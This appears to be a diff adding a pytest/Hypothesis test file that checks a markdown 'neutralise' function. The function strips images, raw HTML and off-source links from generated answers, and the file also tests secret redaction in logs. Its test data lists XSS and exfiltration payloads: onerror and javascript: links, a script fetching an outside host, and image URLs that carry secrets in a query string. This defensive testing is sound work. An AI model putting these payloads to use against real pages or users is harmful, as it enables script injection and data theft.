@@ -1,0 +1,144 @@
+"""Answer text is safe to show: no live images, no raw HTML, links only to the answer's sources.
+
+Checked by rendering the neutralised text with a real CommonMark renderer (markdown-it, raw HTML
+allowed, as a careless consumer would) and looking at the HTML it produces.
+"""
+
+from __future__ import annotations
+
+import logging
+import re
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from hwqa.answer import clean_markdown
+from hwqa.safety import RedactingFilter, install_log_redaction, neutralise, redact
+
+ALLOWED = ["https://example.com/tpu", "http://docs.example.org/a"]
+HOSTS = {"example.com", "docs.example.org"}
+RENDER = MarkdownIt("commonmark", {"html": True})
+SAFE_TAGS = {"p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
+             "blockquote", "hr", "br"}
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def rendered_tags(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
+    parser = Tags()
+    parser.feed(RENDER.render(markdown))
+    return parser.tags
+
+
+def assert_inert(out: str) -> None:
+    """What a user would see: no image, no HTML of the text's own, links only to allowed hosts."""
+    for tag, attrs in rendered_tags(out):
+        assert tag in SAFE_TAGS, f"raw <{tag}> survived: {out!r}"
+        assert not any(k.startswith("on") or k in ("style", "src") for k in attrs), out
+        if tag == "a":
+            href = attrs.get("href") or ""
+            assert urlsplit(href).scheme in ("http", "https") and urlsplit(href).hostname in HOSTS, (href, out)
+    assert "![" not in out
+    assert not re.search(r"<\s*[a-zA-Z/!?]", out), out
+    # bare addresses a GFM renderer would auto-link: only to allowed hosts
+    for url in re.findall(r"(?i)(?:https?|ftp)://[^\s)\]]+|www\.[^\s)\]]+", out):
+        host = urlsplit(url if "://" in url else "http://" + url).hostname
+        assert host in HOSTS, (url, out)
+
+
+FOUND = [  # what the probe found, and the classic forms
+    "[![a](x.png)](http://outside/y)",
+    "<img src=x onerror=alert(1)>",
+    "see ![x](http://outside/?q=secret) now",
+    "![a][r]\n\n[r]: http://outside/x.png",
+    "> [r]: http://outside/\n\n[t][r]",
+    "[js](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [v](JaVaScRiPt:alert(1))",
+    "[a](javascript:a((1)))",
+    "<script>fetch('http://outside/')</script><style>*{}</style><iframe src=http://outside/></iframe>",
+    "<svg onload=alert(1)><circle/></svg><form action=http://outside/><input></form>",
+    "<<img src=x>img src=y>",
+    '<img src="x" alt=">" onerror=alert(1)>',
+    "<http://outside/x> <https://example.com/z> <javascript:alert(1)>",
+    "go to https://outside.example/x. or www.outside.example/path",
+    "![![a](http://outside/1)](http://outside/2)",
+    "[[a](http://outside/1)](https://example.com/ok)",
+    "<!-- hidden --> text <!-- open <img src=x>",
+    "<a href=http://outside/>click</a> <A HREF='javascript:x'>x</A>",
+    "[x](<http://outside/a b>) [y](http://outside/ 'title')",
+    "![x](https://example.com/tpu.png) and [ok](https://example.com/page)",
+    "[a](http://example.com\\@outside/) [b](http://example.com.outside/) [c](http://outside#example.com)",
+    "x](http://outside/) and ![a] (http://outside/)",
+]
+
+
+@pytest.mark.parametrize("text", FOUND)
+def test_hostile_markdown_is_inert(text: str) -> None:
+    assert_inert(neutralise(text, ALLOWED))
+
+
+def test_found_cases_read_as_expected() -> None:
+    assert neutralise("[![a](x.png)](http://outside/y)", ALLOWED) == "(image: a) (http[:]//outside/y)"
+    assert neutralise("<img src=x onerror=alert(1)>hi", ALLOWED) == "hi"
+    assert neutralise("see ![x](http://outside/?q=1) now", ALLOWED) == "see (image: x) now"
+    assert neutralise("[js](javascript:alert(1))", ALLOWED) == "js"
+    assert neutralise("[bad](http://evil.com/a)", ALLOWED) == "bad (http[:]//evil[.]com/a)"
+    # links to the sources and an image there stay usable (as a link)
+    assert neutralise("[ok](https://example.com/p)", ALLOWED) == "[ok](https://example.com/p)"
+    assert neutralise("![chip](https://example.com/c.png)", ALLOWED) == "[image: chip](https://example.com/c.png)"
+
+
+def test_ordinary_answers_are_unchanged() -> None:
+    text = (
+        "A TPU v3-8 costs **$8.00/h** [1][2]; a P100 costs < $2 per hour [3].\n\n"
+        "| hardware | usd_per_hour |\n|---|---|\n| P100 | 1.46 |\n\n- cheap <= fast\n- `code` stays"
+    )
+    assert neutralise(text, ALLOWED) == text
+
+
+def test_old_single_pass_cleanup_no_longer_makes_an_image() -> None:
+    assert "![" not in clean_markdown("[![a](x.png)](http://outside/y) is here")
+
+
+MARKUP = st.sampled_from(
+    ["![", "[", "]", "(", ")", "](", "<", ">", "<img src=x>", "<iframe>", "</", "<!--", "-->", "javascript:",
+     "data:", "http://outside/", "https://example.com/", "www.outside.example", "\n", "\n\n", "[r]: ", " ", "'", '"',
+     "<svg", "onerror=", "\\", "`", "x.png", "<http://outside/>", ">", "&lt;", "\x00", "a"]
+)
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(MARKUP, max_size=30).map("".join))
+def test_any_mix_of_markup_is_inert(text: str) -> None:
+    out = neutralise(text, ALLOWED)
+    assert_inert(out)
+    assert neutralise(out, ALLOWED) == out  # a fixed point: showing it twice changes nothing
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=200))
+def test_any_text_is_inert(text: str) -> None:
+    assert_inert(neutralise(text, ALLOWED))
+
+
+def test_redact_keys_in_logs(caplog: pytest.LogCaptureFixture) -> None:
+    key = "sk-" + "A1b2C3d4" * 4
+    aws = "AKIA" + "ABCDEFGHIJKLMNOP"
+    assert key not in redact(f"key {key} and {aws}") and aws not in redact(aws)
+    install_log_redaction(["hunter2-secret"])
+    log = logging.getLogger("hwqa.fetch")
+    with caplog.at_level(logging.INFO, logger="hwqa"):
+        log.warning("page said %s and %s and hunter2-secret", key, aws)
+    assert caplog.records and all(key not in r.getMessage() and aws not in r.getMessage() for r in caplog.records)
+    assert "hunter2-secret" not in caplog.text
+    assert isinstance(logging.getLogger("hwqa").filters[0], RedactingFilter)
